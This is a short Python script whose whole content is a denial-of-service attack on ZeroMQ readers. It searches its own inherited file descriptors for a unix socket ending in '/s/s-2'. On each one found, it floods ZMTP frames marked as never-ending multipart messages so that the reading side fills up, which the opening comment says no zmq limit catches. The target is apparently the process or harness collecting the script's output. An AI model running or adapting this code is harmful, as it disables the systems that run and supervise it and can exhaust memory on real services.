# fills whoever reads its output: a message that never ends is counted by no limit of zmq
import socket, stat, os, threading, time

part = b'\x01\xff' + b'x' * 255  # a short frame of ZMTP, with more of its message to come


def is_output(fd):
    try:
        if not stat.S_ISSOCK(os.fstat(fd).st_mode):
            return False
        one = socket.socket(fileno=fd)
    except OSError:
        return False
    try:
        return one.getsockname().endswith('/s/s-2') and one.getpeername() is not None
    except (OSError, AttributeError):
        return False
    finally:
        one.detach()


def flood(fd):
    one = socket.socket(fileno=fd)
    one.setblocking(True)
    while True:
        one.sendall(part * 4096)


for fd in filter(is_output, range(3, 256)):
    threading.Thread(target=flood, args=(fd,), daemon=True).start()
time.sleep(1000)
